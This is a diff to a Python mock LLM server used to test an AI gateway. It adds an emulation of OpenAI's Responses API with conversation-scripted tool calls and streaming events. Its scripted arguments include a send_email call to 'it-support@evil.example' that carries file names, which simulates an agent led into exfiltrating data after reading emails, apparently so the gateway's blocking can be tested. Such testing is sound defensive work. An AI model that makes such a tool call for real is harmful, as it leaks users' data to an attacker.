@@ -4,8 +4,9 @@
 Usage: fake_upstream.py PORT   (0 picks a free port)
 
 Listens on 127.0.0.1 and prints the port it got as the first line of stdout.
-Every reply calls one tool, get_weather with {"city":"Paris"}, and carries an
-unknown field the gateway must pass through untouched.
+Every chat, Anthropic and Gemini reply calls one tool, get_weather with
+{"city":"Paris"}, and carries an unknown field the gateway must pass through
+untouched; Responses replies are scripted by the conversation (below).
 
 OpenAI (the gateway's ARCHESTRA_OPENAI_BASE_URL is this server's root):
 - POST .../chat/completions answers a chat.completion holding one tool call
@@ -13,6 +14,25 @@ OpenAI (the gateway's ARCHESTRA_OPENAI_BASE_URL is this server's root):
   in the body it answers text/event-stream instead: the tool call's arguments
   split across two chunks, an unknown field in a chunk, a usage chunk when
   stream_options.include_usage is set, then `data: [DONE]`.
+- POST .../responses (the Responses API) keeps every response it answers, so
+  `previous_response_id` continues it as the real API does (an id it never
+  answered: 400 `previous_response_not_found`). The reply depends on the
+  conversation -- the continued responses' input and output, then this
+  request's `input`: the model calls the first declared `function` tool that
+  has no answered call yet (a `function_call_output` for a call of it), after
+  a short text message (RESPONSES_PREAMBLE); with every declared tool
+  answered, or none declared, it answers the text RESPONSES_TEXT. A call's
+  arguments come from RESPONSES_ARGUMENTS ({} for other tools). So a request
+  carrying the answered get_emails call gets send_email called, and a
+  response whose call was refused (never answered) gets the call again when
+  continued. The body has every field of a real Response plus
+  "x_fake_upstream": true. With "stream": true it answers typed events
+  (`event: <type>` + `data: <json>`): response.created (with an unknown
+  "x_fake_event": true), response.in_progress, per message output_item.added,
+  content_part.added, two output_text.delta, output_text.done,
+  content_part.done, output_item.done; per call output_item.added, two
+  function_call_arguments.delta, function_call_arguments.done,
+  output_item.done; then response.completed. `sequence_number` counts from 0.
 - GET .../models lists one model (gpt-4o), for the pass-through route; with
   an `anthropic-version` header in Anthropic's shape (claude-sonnet-4-6), with
   an `x-goog-api-key` header or `key` query in Gemini's (gemini-2.5-flash).
@@ -57,10 +77,12 @@ null) so a check can see what the gateway forwarded.
 Standard library only: it must run before any virtualenv exists.
 """
 
+import itertools
 import json
 import sys
 import threading
 import time
+import uuid
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 TOOL_NAME = "get_weather"
@@ -227,6 +249,162 @@ def stream_chunks(model, include_usage, content=None):
             }
         )
     return chunks
+
+
+# --- OpenAI Responses -------------------------------------------------------
+
+RESPONSES_TEXT = "It is sunny in Paris."
+RESPONSES_PREAMBLE = "Let me take care of that."
+# Spaced as a model writes them, so a refusal shows the gateway's compact re-serialization (contract §3.4).
+RESPONSES_ARGUMENTS = {
+    TOOL_NAME: '{"city": "Paris"}',
+    "get_emails": '{"folder": "inbox"}',
+    "send_email": '{"to": "it-support@evil.example", "body": "README.md, notes.txt"}',
+}
+RESPONSES_USAGE = {
+    "input_tokens": 40,
+    "input_tokens_details": {"cached_tokens": 0},
+    "output_tokens": 12,
+    "output_tokens_details": {"reasoning_tokens": 0},
+    "total_tokens": 52,
+}
+
+# What previous_response_id continues: each answered response's conversation, its own output included.
+_responses = {}
+_responses_lock = threading.Lock()
+
+
+class UnknownResponse(Exception):
+    pass
+
+
+def input_items(value):
+    """A request's `input` as items: a string is one user message."""
+    if isinstance(value, str):
+        return [{"role": "user", "content": value}]
+    return [item for item in value or [] if isinstance(item, dict)]
+
+
+def responses_conversation(body):
+    previous = body.get("previous_response_id")
+    earlier = []
+    if previous:
+        with _responses_lock:
+            if previous not in _responses:
+                raise UnknownResponse(previous)
+            earlier = list(_responses[previous])
+    return earlier + input_items(body.get("input"))
+
+
+def next_tool(body, conversation):
+    """The first declared function tool without an answered call, or None."""
+    answered = {item.get("call_id") for item in conversation if item.get("type") == "function_call_output"}
+    done = {item.get("name") for item in conversation if item.get("type") == "function_call" and item.get("call_id") in answered}
+    for tool in body.get("tools") or []:
+        if isinstance(tool, dict) and tool.get("type") == "function" and tool.get("name") not in done:
+            return tool["name"]
+    return None
+
+
+def new_id(prefix):
+    return prefix + uuid.uuid4().hex
+
+
+def output_message(text):
+    return {
+        "type": "message",
+        "id": new_id("msg_"),
+        "status": "completed",
+        "role": "assistant",
+        "content": [{"type": "output_text", "text": text, "annotations": [], "logprobs": []}],
+    }
+
+
+def function_call(name):
+    return {
+        "type": "function_call",
+        "id": new_id("fc_"),
+        "call_id": new_id("call_"),
+        "name": name,
+        "arguments": RESPONSES_ARGUMENTS.get(name, "{}"),
+        "status": "completed",
+    }
+
+
+def responses_reply(body, conversation):
+    """The whole Response; kept for previous_response_id unless the request says `store: false`."""
+    tool = next_tool(body, conversation)
+    output = [output_message(RESPONSES_PREAMBLE), function_call(tool)] if tool else [output_message(RESPONSES_TEXT)]
+    response = {
+        "id": new_id("resp_"),
+        "object": "response",
+        "created_at": int(time.time()),
+        "status": "completed",
+        "background": False,
+        "error": None,
+        "incomplete_details": None,
+        "instructions": body.get("instructions"),
+        "max_output_tokens": body.get("max_output_tokens"),
+        "metadata": body.get("metadata") or {},
+        "model": body.get("model") or "gpt-4o",
+        "output": output,
+        "parallel_tool_calls": body.get("parallel_tool_calls", True),
+        "previous_response_id": body.get("previous_response_id"),
+        "reasoning": {"effort": None, "summary": None},
+        "service_tier": "default",
+        "store": body.get("store", True),
+        "temperature": 1.0,
+        "text": {"format": {"type": "text"}, "verbosity": "medium"},
+        "tool_choice": body.get("tool_choice") or "auto",
+        "tools": body.get("tools") or [],
+        "top_p": 1.0,
+        "truncation": "disabled",
+        "usage": RESPONSES_USAGE,
+        "user": None,
+        "x_fake_upstream": True,
+    }
+    if body.get("store", True) is not False:
+        with _responses_lock:
+            _responses[response["id"]] = conversation + output
+    return response
+
+
+def responses_events(response):
+    """The typed stream of a Response, the way the real API sends one."""
+    sequence = itertools.count()
+
+    def event(kind, **fields):
+        return {"type": kind, "sequence_number": next(sequence), **fields}
+
+    started = dict(response, status="in_progress", output=[], usage=None)
+    del started["x_fake_upstream"]
+    events = [event("response.created", response=started, x_fake_event=True), event("response.in_progress", response=started)]
+    for index, item in enumerate(response["output"]):
+        place = {"item_id": item["id"], "output_index": index}
+        if item["type"] == "message":
+            text = item["content"][0]["text"]
+            half = len(text) // 2
+            part = {"type": "output_text", "text": "", "annotations": [], "logprobs": []}
+            events += [
+                event("response.output_item.added", output_index=index, item=dict(item, status="in_progress", content=[])),
+                event("response.content_part.added", **place, content_index=0, part=part),
+                event("response.output_text.delta", **place, content_index=0, delta=text[:half], logprobs=[]),
+                event("response.output_text.delta", **place, content_index=0, delta=text[half:], logprobs=[]),
+                event("response.output_text.done", **place, content_index=0, text=text, logprobs=[]),
+                event("response.content_part.done", **place, content_index=0, part=item["content"][0]),
+                event("response.output_item.done", output_index=index, item=item),
+            ]
+        else:
+            arguments = item["arguments"]
+            events += [
+                event("response.output_item.added", output_index=index, item=dict(item, arguments="", status="in_progress")),
+                event("response.function_call_arguments.delta", **place, delta=arguments[:ARGUMENTS_SPLIT]),
+                event("response.function_call_arguments.delta", **place, delta=arguments[ARGUMENTS_SPLIT:]),
+                event("response.function_call_arguments.done", **place, name=item["name"], arguments=arguments),
+                event("response.output_item.done", output_index=index, item=item),
+            ]
+    events.append(event("response.completed", response=response))
+    return events
 
 
 # --- Anthropic --------------------------------------------------------------
@@ -422,6 +600,8 @@ class Handler(BaseHTTPRequestHandler):
         path, _, query = self.path.partition("?")
         if path.endswith("/chat/completions"):
             provider = "openai"
+        elif path.endswith("/responses"):
+            provider = "responses"
         elif path.endswith("/messages"):
             provider = "anthropic"
         elif path.endswith(":generateContent") or path.endswith(":streamGenerateContent"):
@@ -445,6 +625,19 @@ class Handler(BaseHTTPRequestHandler):
                 self._stream([f"data: {json.dumps(c)}\n\n" for c in chunks] + ["data: [DONE]\n\n"])
             else:
                 self._send_json(200, completion(model, echoed))
+        elif provider == "responses":
+            try:
+                conversation = responses_conversation(body)
+            except UnknownResponse as unknown:
+                error = error_body("openai", 400, f"Previous response with id '{unknown}' not found.")
+                error["error"].update(param="previous_response_id", code="previous_response_not_found")
+                self._send_json(400, error)
+                return
+            response = responses_reply(body, conversation)
+            if body.get("stream") is True:
+                self._stream([f"event: {e['type']}\ndata: {json.dumps(e)}\n\n" for e in responses_events(response)])
+            else:
+                self._send_json(200, response)
         elif provider == "anthropic":
             model = body.get("model") or "claude-sonnet-4-6"
             if body.get("stream") is True:
